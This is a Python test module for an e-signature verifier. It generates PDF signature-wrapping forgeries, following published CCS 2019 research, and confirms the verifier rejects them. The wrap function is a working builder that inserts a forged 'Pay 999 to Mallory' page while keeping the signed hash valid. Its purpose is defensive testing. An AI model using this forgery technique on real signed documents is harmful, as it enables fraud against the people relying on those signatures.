"""SWA, signature wrapping (CCS 2019): the signed bytes move, forged objects take their place.

The signed /ByteRange stands behind /Contents, so it moves with the second part; a new
one stands in front of it. What was signed is untouched, and hashes to what was signed.
The rule that keeps all of it out: the gap is exactly this dictionary's /Contents.
"""

from __future__ import annotations

import hashlib
import re
from collections.abc import Callable
from dataclasses import dataclass

import pytest

from esign_verify.sandbox import Sandbox
from esign_verify.sandbox.pdf_objects import serialize
from esign_verify.sandbox.pdf_writer import PdfWriter
from esign_verify.sandbox.pki import SandboxPki
from tests.attacks_pdf.case import PASSED, Case, cases, check, failed
from tests.attacks_pdf.maker import FORGED_PAGE, page_text_number, signed, startxref

OPEN: dict[str, str] = {}

_CCS = "Mladenov et al., 1 Trillion Dollar Refund, CCS 2019, section 4.3"


@dataclass(frozen=True, kw_only=True)
class Wrapping:
    """What varies."""

    keep_padding: bool = True
    """the zeros of /Contents; without them there is more room for forged objects"""
    before: bytes = b""
    """right before the moved part"""
    end_of_file: bool = False
    """a second `%%EOF`, right behind the forged table"""
    dictionary_closed: bool = True


def _original(pki: SandboxPki) -> PdfWriter:
    # a long reason makes room between /Contents and the table
    return signed(pki, contents_first=True, reason=b"x" * 3000)


def wrap(pdf: PdfWriter, how: Wrapping) -> bytes:
    """Steps (1) to (3) of attacks.md 3.1, SWA."""
    data = bytes(pdf.data)
    (match,) = re.finditer(rb"/Contents (<[0-9a-f]+>)", data)
    gap, after = match.span(1)
    table = startxref(data)
    moved = data[after:]
    head = data[:gap] + _contents(match[1], how)
    assert len(head) < table
    # the new range is written last: where the moved part begins is known only then
    place = len(head) + 1
    out = bytearray(head + b"\n/ByteRange [" + b" " * 40 + b"]")
    out += b">>\nendobj\n" if how.dictionary_closed else b"\n"
    text = page_text_number(pdf)
    forged = len(out)
    out += b"%d 0 obj\n" % text + serialize(FORGED_PAGE) + b"\nendobj\n"
    assert len(out) < table
    out = out.ljust(table, b" ")
    places = {**_offsets(data), text: forged}
    rows = b"".join(b"%d 1\n%%010d 00000 n \n" % number for number in places)
    trailer = b"trailer\n<</Size %d /Root 1 0 R>>\n" % (len(pdf.objects) + 2)
    end = b"startxref\n%d\n%%%%EOF\n" % table if how.end_of_file else b""
    before = how.before.replace(b"LENGTH", b"%06d" % len(moved))
    length = len(rows) + len(places) * (len(b"%010d" % 0) - len(b"%010d"))
    start = table + len(b"xref\n") + length + len(trailer + end + before)
    moves = [at - after + start if at >= after and at != forged else at for at in places.values()]
    out += b"xref\n" + rows % tuple(moves) + trailer + end + before
    assert len(out) == start
    numbers = b"[0 %d %d %d" % (gap, start, len(moved))
    inside = out.index(b"[", place)
    out[inside : inside + 41] = numbers.ljust(41)
    out += moved
    assert _hash_of_range(bytes(out), gap, start) == _hash_of_range(data, gap, after)
    return bytes(out)


def _contents(hexadecimal: bytes, how: Wrapping) -> bytes:
    if how.keep_padding:
        return hexadecimal
    return hexadecimal.rstrip(b"0>").ljust(len(hexadecimal.rstrip(b"0>")) + 2, b"0") + b">"


def _offsets(data: bytes) -> dict[int, int]:
    return {int(m[1]): m.start() for m in re.finditer(rb"(?m)^(\d+) 0 obj", data)}


def _hash_of_range(data: bytes, first: int, second: int) -> bytes:
    return hashlib.sha256(data[:first] + data[second:]).digest()


def _build(how: Wrapping) -> Callable[[SandboxPki], bytes]:
    return lambda pki: wrap(_original(pki), how)


VARIANTS = {
    "padding-kept": Wrapping(),
    "padding-dropped": Wrapping(keep_padding=False),
    "second-end-of-file": Wrapping(end_of_file=True),
    "padding-dropped-second-end-of-file": Wrapping(keep_padding=False, end_of_file=True),
    "object-swallows": Wrapping(before=b"99 0 obj\n<</Type /SigRef\n"),
    "comment-swallows": Wrapping(before=b"%"),
    "comment-swallows-second-end-of-file": Wrapping(before=b"%", end_of_file=True),
    "stream-swallows": Wrapping(before=b"99 0 obj\n<</Length LENGTH>>\nstream\n"),
}


@cases(
    [
        Case(
            id=name,
            source=_CCS,
            build=_build(how),
            signatures={"Signature1": failed("byte_range", "byte_range_gap")},
        )
        for name, how in VARIANTS.items()
    ]
    + [
        Case(
            id="dictionary-left-open",
            source="attacks.md 3.1 SWA: the forged objects stand inside the dictionary",
            build=_build(Wrapping(dictionary_closed=False)),
            signatures={"Signature1": failed("signature_dictionary", "pdf_dictionary_key")},
        ),
        Case(
            id="control",
            source="the document that is wrapped",
            build=lambda pki: bytes(_original(pki).data),
            signatures={"Signature1": PASSED},
        ),
    ]
)
def test_signature_wrapping(case: Case, sandbox: Sandbox) -> None:
    check(case, sandbox, OPEN)


@pytest.mark.parametrize("name", VARIANTS)
def test_the_forged_page_is_what_a_reader_finds(name: str, sandbox: Sandbox) -> None:
    """The builder makes what it claims: `startxref` leads to the forged table."""
    data = wrap(_original(sandbox.pki), VARIANTS[name])
    table = data[startxref(data) :]
    (row,) = re.findall(rb"\n4 1\n(\d{10}) 00000 n", table)
    assert b"Pay 999 to Mallory" in data[int(row) :].split(b"endobj")[0]
